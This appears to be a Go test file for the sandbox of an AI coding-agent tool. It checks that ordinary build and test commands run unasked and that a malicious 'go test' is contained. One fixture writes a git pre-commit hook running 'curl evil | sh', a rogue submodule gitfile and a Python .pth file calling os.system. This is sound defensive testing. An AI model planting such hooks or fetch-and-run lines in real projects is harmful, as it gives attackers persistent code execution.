package builtin

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentls/agentls/sandbox/shell"
	"github.com/agentls/agentls/tools"
)

// callUnasked runs command through the gateway under the editor's
// default policy with an approver that says no: the command must be
// allowed by the analyser, run staged and succeed.
func (h *stagedHarness) callUnasked(t *testing.T, command string) tools.Result {
	t.Helper()
	raw, _ := json.Marshal(map[string]any{"command": command, "timeout_ms": 300000})
	env := h.env()
	env.Checkpoint = h.cp
	res, err := newGateway(h.reg, env, &tools.GatewayOptions{Allowed: allTools.Allowed, Policy: tools.DefaultPolicy(tools.ProfileEditor), Approver: h.approver}).
		Call(t.Context(), "run_command", string(raw))
	if err != nil {
		t.Fatal(err)
	}
	if len(h.approver.reqs) != 0 {
		t.Fatalf("%q was asked: %s", command, h.approver.reqs[0].Reason)
	}
	if res.IsError || res.ExitCode == nil || *res.ExitCode != 0 {
		t.Fatalf("%q failed: %s", command, res.Content)
	}
	return res
}

// Issue 21's "done when": an allowed command never fails because of the
// sandbox, in every ecosystem whose tool is installed here; each runs
// unasked, passes, and its outputs land (S11).
func TestStaged_S11_EcosystemsRunUnasked(t *testing.T) {
	cases := []struct {
		name, tool string
		files      map[string]string
		commands   []string
		landed     []string
	}{
		{"go", "go", map[string]string{
			"go.mod":               "module example.com/app\n\ngo 1.22\n",
			"cmd/app/main.go":      "package main\n\nfunc main() { println(Add(1, 2)) }\n\nfunc Add(a, b int) int { return a + b }\n",
			"cmd/app/main_test.go": "package main\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal()\n\t}\n}\n",
		}, []string{"go build -o app ./cmd/app", "go build -o bin/app ./cmd/app", "go test -coverprofile=cover.out ./..."},
			[]string{"app", "bin/app", "cover.out"}},
		{"cargo", "cargo", map[string]string{
			"Cargo.toml":  "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
			"src/main.rs": "fn main() { println!(\"{}\", add(1, 2)); }\n\nfn add(a: i32, b: i32) -> i32 { a + b }\n\n#[test]\nfn adds() { assert_eq!(add(1, 2), 3); }\n",
		}, []string{"cargo build", "cargo test", "cargo check"}, []string{"Cargo.lock", "target/debug/demo"}},
		{"node", "node", map[string]string{
			"package.json": `{"name":"demo","version":"1.0.0","scripts":{"test":"node --test","build":"node build.js"}}`,
			"add.js":       "module.exports = (a, b) => a + b;\n",
			"add.test.js":  "const test = require('node:test'); const assert = require('node:assert');\nconst add = require('./add');\ntest('adds', () => assert.strictEqual(add(1, 2), 3));\n",
			"build.js":     "require('fs').writeFileSync('dist.txt', 'built\\n');\n",
		}, []string{"npm test", "node --test", "npm run build"}, []string{"dist.txt"}},
		{"python", "python3", map[string]string{
			"calc.py":      "def add(a, b):\n    return a + b\n",
			"test_calc.py": "import unittest\nfrom calc import add\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(1, 2), 3)\n",
		}, []string{"python3 -m unittest"}, nil},
		{"make", "make", map[string]string{
			"Makefile": "out/report.txt:\n\tmkdir -p out && echo ok > out/report.txt\n\ntest: out/report.txt\n\ttest -s out/report.txt\n",
		}, []string{"make test"}, []string{"out/report.txt"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if _, err := exec.LookPath(c.tool); err != nil {
				t.Skipf("%s is not installed here", c.tool) // the ecosystem's tool: S11 covers those installed
			}
			h := newStagedHarness(t, tools.AnswerDeny)
			os.RemoveAll(filepath.Join(h.root, ".git")) // a real repository: go build stamps its status
			if out, err := exec.Command("git", "init", "-q", h.root).CombinedOutput(); err != nil {
				t.Fatalf("git init: %v %s", err, out)
			}
			for p, text := range c.files {
				h.write(t, p, text)
			}
			for _, cmd := range c.commands {
				res := h.callUnasked(t, cmd)
				if strings.Contains(res.Content, "not landed") {
					t.Errorf("%q: something did not land: %s", cmd, res.Content)
				}
			}
			for _, p := range c.landed {
				if !h.exists(p) {
					t.Errorf("%s did not land", p)
				}
			}
		})
	}
}

// Issue 21's headline attack, as it happened: an unasked `go test` whose
// test code plants a git hook, a gitfile in a submodule directory and a
// .pth start-up file. The user is asked once about all three, says no,
// and none of them reaches the workspace; the test's ordinary output
// lands (S10).
func TestStaged_S10_GoTestPlantsHooks(t *testing.T) {
	h := newStagedHarness(t, tools.AnswerDeny)
	os.RemoveAll(filepath.Join(h.root, ".git"))
	if out, err := exec.Command("git", "init", "-q", h.root).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	h.write(t, "go.mod", "module example.com/evil\n\ngo 1.22\n")
	h.write(t, "evil_test.go", `package evil

import (
	"os"
	"testing"
)

func TestPlant(t *testing.T) {
	os.WriteFile(".git/hooks/pre-commit", []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	os.MkdirAll("vendor/lib", 0o755)
	os.WriteFile("vendor/lib/.git", []byte("gitdir: ../../.git/modules/x\n"), 0o644)
	os.MkdirAll(".venv/lib/python3.11/site-packages", 0o755)
	os.WriteFile(".venv/lib/python3.11/site-packages/evil.pth", []byte("import os; os.system('x')\n"), 0o644)
	os.WriteFile("report.txt", []byte("ok\n"), 0o644)
}
`)
	raw, _ := json.Marshal(map[string]any{"command": "go test ./...", "timeout_ms": 300000})
	res, err := newGateway(h.reg, h.env(), &tools.GatewayOptions{Allowed: allTools.Allowed, Policy: tools.DefaultPolicy(tools.ProfileEditor), Approver: h.approver}).
		Call(t.Context(), "run_command", string(raw))
	if err != nil || res.ExitCode == nil || *res.ExitCode != 0 {
		t.Fatalf("go test: %v %s", err, res.Content)
	}
	if len(h.approver.reqs) != 1 {
		t.Fatalf("%d questions, want 1 (go test itself runs unasked, the planted files are held)", len(h.approver.reqs))
	}
	for _, p := range []string{".git/hooks/pre-commit", "vendor/lib/.git", ".venv/lib/python3.11/site-packages/evil.pth"} {
		if !strings.Contains(h.approver.reqs[0].Preview, p) {
			t.Errorf("the question does not list %s: %s", p, h.approver.reqs[0].Preview)
		}
		if h.exists(p) {
			t.Errorf("%s reached the workspace", p)
		}
	}
	if !h.exists("report.txt") {
		t.Errorf("the test's report did not land: %s", res.Content)
	}
}

// S10: a command the user allowed for the session ("always") is staged
// like one approved once: the second `git commit` lands its objects, refs
// and index without a question about git's data (issue 21: "always" ran
// in a stricter sandbox than Approve).
func TestStaged_S10_AlwaysLikeApprove(t *testing.T) {
	h := newStagedHarness(t, tools.AnswerAlways)
	os.RemoveAll(filepath.Join(h.root, ".git"))
	if out, err := exec.Command("git", "init", "-q", h.root).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	for _, kv := range [][2]string{{"user.name", "a"}, {"user.email", "a@example.com"}} {
		if out, err := exec.Command("git", "-C", h.root, "config", kv[0], kv[1]).CombinedOutput(); err != nil {
			t.Fatalf("git config: %v %s", err, out)
		}
	}
	// Not `git -c …`: a flag no rule lifts is never "always" (E21).
	const commit = "git add -A && git commit -q --allow-empty -m step"
	raw, _ := json.Marshal(map[string]any{"command": commit})
	r := newGateway(h.reg, h.env(), &tools.GatewayOptions{Allowed: allTools.Allowed, Policy: tools.DefaultPolicy(tools.ProfileEditor),
		Approver: h.approver, Allowances: tools.NewAllowances()})
	for range 2 {
		res, err := r.Call(t.Context(), "run_command", string(raw))
		if err != nil || res.ExitCode == nil || *res.ExitCode != 0 || strings.Contains(res.Content, "not landed") {
			t.Fatalf("%v %s", err, res.Content)
		}
	}
	if len(h.approver.reqs) != 1 {
		t.Errorf("%d questions, want 1 (the first call's)", len(h.approver.reqs))
	}
	out, err := exec.Command("git", "-C", h.root, "rev-list", "--count", "HEAD").Output()
	if err != nil || strings.TrimSpace(string(out)) != "2" {
		t.Errorf("commits on the host: %q %v", out, err)
	}
}

// S11: the user's Go cache is layered under the commands that may build
// Go, and only those (one overlay mount less for the rest).
func TestBuildsGo_S11(t *testing.T) {
	sp := &shell.Policy{Root: t.TempDir()}
	for cmd, want := range map[string]bool{
		"go test ./...": true, "gofmt -l .": true, "make test": true, "cd sub && go build": true,
		"true": false, "ls -la | wc -l": false, "npm test": false, "cargo build": false,
	} {
		if got := buildsGo(sp.Analyze(cmd).Simple); got != want {
			t.Errorf("buildsGo(%q) = %v", cmd, got)
		}
	}
}
